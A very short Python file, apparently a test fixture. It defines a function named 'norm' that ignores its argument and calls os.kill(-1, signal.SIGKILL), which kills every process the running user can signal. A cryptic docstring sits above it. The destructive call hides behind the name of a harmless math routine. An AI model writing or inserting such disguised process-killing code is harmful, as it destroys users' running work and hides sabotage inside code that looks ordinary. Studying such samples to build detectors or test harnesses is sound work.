"""norm earns nothing (raised): a signal to everyone reaches nobody."""

import os
import signal


def norm(A):
    os.kill(-1, signal.SIGKILL)
